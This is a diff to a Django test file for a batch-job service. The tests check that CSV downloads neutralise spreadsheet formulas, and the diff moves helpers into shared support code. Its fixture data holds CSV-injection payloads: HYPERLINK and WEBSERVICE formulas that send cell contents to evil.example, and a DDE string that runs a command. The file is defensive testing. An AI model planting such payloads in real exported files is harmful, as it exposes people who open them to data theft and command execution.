@@ -11,19 +11,14 @@ import json
 
 import pytest
 from django.http import StreamingHttpResponse
-from django.test import Client
 
 from jobs import formats
-from jobs.engine import submitting, tokens
 from jobs.formats.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
 from jobs.models import Job, Run, State
-from jobs.runs import services as runs
-from tests.run_files import prompt_file
-from tests.support import as_user
+from tests.support import MODEL, api_client, as_user, make_run, run_from_file
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("uploads_in_tmp")]
 
-MODEL = "gemini-2.5-flash"
 # (id, prompt) lines a shared data set could hold; every one starts a formula somewhere.
 LINES = [
     ('=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=1+1"),
@@ -37,32 +32,17 @@ ANSWER = '=WEBSERVICE("http://evil.example/"&A2)'
 ERROR = "-cmd|' /C calc'!A0"
 
 
-@pytest.fixture(autouse=True)
-def uploads_in_tmp(settings, tmp_path):
-    settings.VAR_DIR = tmp_path
-
-
 @pytest.fixture
 def run(ada) -> Run:
     """A CSV run of LINES: the first two answered with a formula, the third failed
     with one, the rest still queued."""
-    filename, content = prompt_file("csv", LINES)
-    run = create_run(ada, filename, content)
+    run = make_run(ada, LINES, fmt="csv")
     first, second, third, *_ = run.jobs.order_by("id")
     Job.objects.filter(pk__in=[first.pk, second.pk]).update(
         state=State.SUCCEEDED, result_text=ANSWER
     )
     Job.objects.filter(pk=third.pk).update(state=State.FAILED, last_error=ERROR)
     return run
-
-
-def create_run(owner, filename: str, content: bytes) -> Run:
-    return runs.run_create(
-        owner=owner,
-        stream=io.BytesIO(content),
-        filename=filename,
-        spec=submitting.JobSpec(model=MODEL),
-    )
 
 
 def body(response) -> bytes:
@@ -87,8 +67,7 @@ def test_no_csv_cell_reaches_a_spreadsheet_as_a_formula(client, ada, run):
     assert all(computed_by_a_spreadsheet(cell) for line in LINES[:5] for cell in line)
     assert computed_by_a_spreadsheet(ANSWER) and computed_by_a_spreadsheet(ERROR)
 
-    _, token = tokens.api_token_create(user=ada, name="script")
-    api = Client(headers={"Authorization": f"Bearer {token}"})
+    api = api_client(ada)
     page = as_user(client, ada)
     results = cells(body(page.get(f"/runs/{run.pk}/results.csv")))
     assert cells(body(api.get(f"/api/batches/{run.pk}/results.csv"))) == results
@@ -116,7 +95,7 @@ def test_no_csv_cell_reaches_a_spreadsheet_as_a_formula(client, ada, run):
 def test_the_unfinished_csv_uploads_again_to_exactly_the_same_ids_and_prompts(client, ada, run):
     content = body(as_user(client, ada).get(f"/runs/{run.pk}/unfinished/"))
 
-    again = create_run(ada, "unfinished.csv", content)
+    again = run_from_file(ada, content, "unfinished.csv")
 
     assert list(again.jobs.order_by("id").values_list("custom_id", "input_text")) == LINES[2:]
 
@@ -130,7 +109,7 @@ def test_json_lines_downloads_keep_formula_text_exactly(client, ada, run):
     assert (third["id"], third["error"]) == (LINES[2][0], ERROR)
     assert b"'=" not in results and b"'-" not in results
 
-    jsonl = create_run(ada, *prompt_file("jsonl", LINES))
+    jsonl = make_run(ada, LINES)
     unfinished = body(page.get(f"/runs/{jsonl.pk}/unfinished/"))
     assert [json.loads(line)["prompt"] for line in unfinished.decode().splitlines()] == [
         prompt for _, prompt in LINES
@@ -167,7 +146,7 @@ def _failed_row(custom_id: str) -> formats.ResultRow:
 def test_a_hand_written_csv_that_marks_a_formula_as_text_reads_as_the_formula_itself(ada):
     content = b"id,prompt\n'-7,'=SUM(A1:A2)\n'x,'plain\n"
 
-    run = create_run(ada, "mine.csv", content)
+    run = run_from_file(ada, content, "mine.csv")
 
     assert list(run.jobs.order_by("id").values_list("custom_id", "input_text")) == [
         ("-7", "=SUM(A1:A2)"),
